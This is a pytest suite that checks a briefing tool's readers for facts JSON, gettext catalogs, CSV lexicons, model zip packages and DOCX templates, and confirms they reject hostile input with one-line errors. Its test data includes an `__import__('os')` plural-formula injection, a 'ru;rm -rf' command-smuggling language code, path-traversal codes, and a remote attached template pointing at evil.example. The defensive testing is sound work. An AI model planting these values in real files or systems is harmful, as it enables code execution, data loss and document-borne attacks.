"""Every reader of a hand-edited file is bounded: one-line errors, never a traceback."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from briefing.errors import BriefingError, FactsError
from briefing.models import Facts
from briefing.pipeline import read_facts

MINIMAL = {"event_type": "meeting", "participants": [{"name": "Kassym-Jomart Tokayev"}]}


def facts_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "facts.json"
    path.write_text(text, encoding="utf-8")
    return path


def one_line_error(path: Path) -> str:
    with pytest.raises(FactsError) as error:
        read_facts(path)
    message = error.value.message
    assert "\n" not in message and str(path) in message
    assert len(message) < 400
    return message


def test_deep_nesting_is_refused_before_parsing(tmp_path: Path) -> None:
    path = facts_file(tmp_path, '{"key_points": ' + "[" * 100_000 + "]" * 100_000 + "}")
    assert "nested more than" in one_line_error(path)


def test_nesting_inside_strings_is_not_counted(tmp_path: Path) -> None:
    path = facts_file(tmp_path, json.dumps({**MINIMAL, "key_points": ["[" * 200 + "{" * 200]}))
    assert read_facts(path).key_points == ["[" * 200 + "{" * 200]


@pytest.mark.parametrize("number", ["1e400", "-1e400", "Infinity", "-Infinity", "NaN", "9" * 5000])
def test_huge_and_non_finite_numbers_are_refused(tmp_path: Path, number: str) -> None:
    text = json.dumps({**MINIMAL, "location": {"city": "Astana", "evidence": {"start": 0, "end": 1}}})
    path = facts_file(tmp_path, text.replace('"end": 1', f'"end": {number}'))
    message = one_line_error(path)
    assert ":1:" in message


def test_huge_evidence_offsets_in_a_dict_are_dropped() -> None:
    facts = Facts.from_dict({**MINIMAL, "location": {"city": "Astana", "evidence": {"start": 0, "end": float("inf")}}})
    assert facts.location.evidence is None


def test_a_megabyte_name_is_refused_and_not_echoed(tmp_path: Path) -> None:
    path = facts_file(tmp_path, json.dumps({"event_type": "meeting", "participants": [{"name": "A" * 1_000_000}]}))
    message = one_line_error(path)
    assert "participants[0].name" in message and "1,000,000 characters" in message


def test_an_oversized_facts_file_is_refused(tmp_path: Path) -> None:
    path = facts_file(tmp_path, json.dumps({**MINIMAL, "key_points": ["x" * 9000] * 700}))
    assert "over the limit" in one_line_error(path)


def test_errors_are_briefing_errors() -> None:
    assert issubclass(FactsError, BriefingError)


# -- catalogs ---------------------------------------------------------------------------

HEADER = ('msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset={charset}\\n"\n'
          '"Plural-Forms: {plural}\\n"\n\n')


def catalog(tmp_path: Path, body: str = 'msgid "Hello"\nmsgstr "Привет"\n', charset: str = "UTF-8",
            plural: str = "nplurals=2; plural=(n != 1);") -> Path:
    path = tmp_path / "xx" / "LC_MESSAGES" / "messages.po"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(HEADER.format(charset=charset, plural=plural) + body, encoding="utf-8")
    return path


def catalog_error(tmp_path: Path) -> str:
    from briefing.catalogs import load_catalog
    from briefing.errors import CatalogError

    with pytest.raises(CatalogError) as error:
        load_catalog(tmp_path, "xx")
    message = error.value.message
    assert "\n" not in message and "messages.po" in message
    return message


def test_an_unknown_charset_is_one_line_naming_the_file(tmp_path: Path) -> None:
    catalog(tmp_path, charset="klingon-9")
    assert ":3: the header names an unknown charset 'klingon-9'" in catalog_error(tmp_path)


def test_a_charset_that_does_not_fit_the_text_is_an_error(tmp_path: Path) -> None:
    catalog(tmp_path, charset="latin-1")
    assert "charset=latin-1 but the file is UTF-8" in catalog_error(tmp_path)


def test_another_charset_is_fine_for_plain_ascii(tmp_path: Path) -> None:
    from briefing.catalogs import load_catalog

    catalog(tmp_path, body='msgid "Hello"\nmsgstr "Hallo"\n', charset="latin-1")
    loaded = load_catalog(tmp_path, "xx")
    assert loaded is not None and loaded.translations.gettext("Hello") == "Hallo"


@pytest.mark.parametrize("plural", [
    "nplurals=2; plural=(n != 1) + __import__('os');",
    "nplurals=2; plural=" + "(" * 2000 + "n" + ")" * 2000 + ";",
    "nplurals=2; plural=n / 0;",
    "nplurals=2; plural=n % 0;",
    "nplurals=99999999; plural=n;",
    "nplurals=2; plural=n;",
    "nplurals=two; plural=0;",
])
def test_a_bad_plural_forms_header_is_one_line(tmp_path: Path, plural: str) -> None:
    catalog(tmp_path, plural=plural)
    assert "Plural-Forms" in catalog_error(tmp_path) or "cannot" in catalog_error(tmp_path)


@pytest.mark.parametrize("inside", ["\u2028", "\u2029", "\x85", "\x0c", "\x0b", "\x1c"])
def test_line_separators_inside_a_translation_are_not_a_missing_quote(tmp_path: Path, inside: str) -> None:
    from briefing.catalogs import load_catalog

    catalog(tmp_path, body=f'msgid "Hello"\nmsgstr "При{inside}вет"\n')
    loaded = load_catalog(tmp_path, "xx")
    assert loaded is not None and loaded.translations.gettext("Hello") == f"При{inside}вет"


def test_an_unknown_placeholder_in_a_translation_is_blamed_on_the_catalog(tmp_path: Path) -> None:
    path = catalog(tmp_path, body='msgid "Hello"\nmsgstr "Привет, %(x)s"\n')
    assert f"{path}:6: the translation has %(x)s" in catalog_error(tmp_path)


# -- CSV: termbase, lexicon, inflections -------------------------------------------------


def test_a_termbase_cell_over_the_csv_field_limit_is_one_line(tmp_path: Path) -> None:
    from briefing.errors import TermbaseError
    from briefing.termbase import COLUMNS, Termbase

    path = tmp_path / "termbase.csv"
    row = ["person", "A" * 200_000] + [""] * (len(COLUMNS) - 2)
    path.write_text(",".join(COLUMNS) + "\n" + ",".join(f'"{cell}"' for cell in row) + "\n", encoding="utf-8")
    with pytest.raises(TermbaseError) as error:
        Termbase.load(path)
    assert f"{path}:2: a cell is over the limit" in error.value.message


def test_an_inflection_cell_over_the_limit_is_one_line(tmp_path: Path) -> None:
    from briefing.errors import TermbaseError
    from briefing.grammar.forms import COLUMNS, InflectionTable

    with pytest.raises(TermbaseError, match="inflections.csv:2: a cell is over the limit"):
        InflectionTable.parse(",".join(COLUMNS) + '\n"' + "x" * 200_000 + '"\n', "inflections.csv")


def test_an_office_lexicon_cell_over_the_limit_is_one_line(tmp_path: Path) -> None:
    from briefing.compose import COLUMNS, load_lexicon
    from briefing.errors import TermbaseError

    path = tmp_path / "offices.csv"
    path.write_text(",".join(COLUMNS) + '\n"' + "x" * 200_000 + '"\n', encoding="utf-8")
    with pytest.raises(TermbaseError, match="offices.csv:2: a cell is over the limit"):
        load_lexicon(path)


# -- model packages ----------------------------------------------------------------------


def _package(tmp_path: Path, metadata: dict[str, object], root: str = "translate-en_ru-x",
             extra: dict[str, bytes] | None = None) -> Path:
    import zipfile

    path = tmp_path / "bad.argosmodel"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{root}/metadata.json", json.dumps(metadata))
        archive.writestr(f"{root}/model/model.bin", b"x")
        archive.writestr(f"{root}/sentencepiece.model", b"x")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


@pytest.mark.parametrize("code", ["../../x", "en\nru", "", "EN RU", "x" * 50, "ru;rm -rf"])
def test_language_codes_in_model_metadata_are_checked(tmp_path: Path, code: str) -> None:
    from briefing.errors import ModelPackageError
    from briefing.translate.packages import read_archive

    path = _package(tmp_path, {"from_code": "en", "to_code": code})
    with pytest.raises(ModelPackageError) as error:
        read_archive(path)
    assert "\n" not in error.value.message and str(path) in error.value.message


def test_an_installed_folder_with_a_bad_code_is_skipped(tmp_path: Path) -> None:
    from briefing.translate.packages import installed

    folder = tmp_path / "models" / "translate-x"
    folder.mkdir(parents=True)
    (folder / "metadata.json").write_text(json.dumps({"from_code": "en", "to_code": "../../x\nfake"}))
    assert installed(tmp_path / "models") == []


def test_a_package_version_with_a_newline_is_refused(tmp_path: Path) -> None:
    from briefing.errors import ModelPackageError
    from briefing.translate.packages import read_archive

    with pytest.raises(ModelPackageError, match="package_version"):
        read_archive(_package(tmp_path, {"from_code": "en", "to_code": "ru", "package_version": "1\nInstalled x"}))


def test_an_encrypted_package_is_refused(tmp_path: Path) -> None:
    from briefing.errors import ModelPackageError
    from briefing.translate.packages import read_archive

    path = _package(tmp_path, {"from_code": "en", "to_code": "ru"})
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # set the "encrypted" flag bit
        start = data.find(signature)
        while start != -1:
            data[start + offset] |= 0x1
            start = data.find(signature, start + 4)
    path.write_bytes(bytes(data))
    with pytest.raises(ModelPackageError, match="encrypted"):
        read_archive(path)


def test_a_deeply_nested_package_is_refused(tmp_path: Path) -> None:
    from briefing.errors import ModelPackageError
    from briefing.translate.packages import read_archive

    deep = "translate-en_ru-x/" + "d/" * 200 + "f.txt"
    with pytest.raises(ModelPackageError, match="nested"):
        read_archive(_package(tmp_path, {"from_code": "en", "to_code": "ru"}, extra={deep: b"x"}))


def test_deeply_nested_metadata_is_refused(tmp_path: Path) -> None:
    import zipfile

    from briefing.errors import ModelPackageError
    from briefing.translate.packages import read_archive

    path = _package(tmp_path, {"from_code": "en", "to_code": "ru"})
    nested = tmp_path / "nested.argosmodel"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(nested, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("metadata.json"):
                data = b"[" * 100_000 + b"]" * 100_000
            target.writestr(info.filename, data)
    with pytest.raises(ModelPackageError, match="metadata.json"):
        read_archive(nested)


# -- reference document ------------------------------------------------------------------


def test_a_reference_with_a_remote_attached_template_does_not_pass_it_on(tmp_path: Path) -> None:
    import zipfile

    from briefing.document import DocumentModel, Paragraph, Span
    from briefing.resources import default_reference_docx
    from briefing.write import write_docx

    reference = tmp_path / "reference.docx"
    with zipfile.ZipFile(default_reference_docx()) as source, zipfile.ZipFile(reference, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "word/settings.xml":
                data = data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT1"/><w:zoom', 1)
                assert b"attachedTemplate" in data
            target.writestr(info, data)
        target.writestr("word/_rels/settings.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rIdT1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
            "</Relationships>"))
    model = DocumentModel(lang="en-GB", title="T", blocks=[Paragraph([Span("Hello")])])
    written = write_docx(model, tmp_path / "out.docx", reference)
    with zipfile.ZipFile(written) as result:
        everything = b"".join(result.read(name) for name in result.namelist())
    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
    import docx

    docx.Document(str(written))


def test_a_babel_error_quoting_a_line_break_is_still_one_line(tmp_path: Path) -> None:
    path = tmp_path / "xx" / "LC_MESSAGES" / "messages.po"
    path.parent.mkdir(parents=True)
    path.write_text('msgid ""\n"Content-Type: text/plain; charset=UTF-8\\n"', encoding="utf-8")
    assert "missing msgstr" in catalog_error(tmp_path)
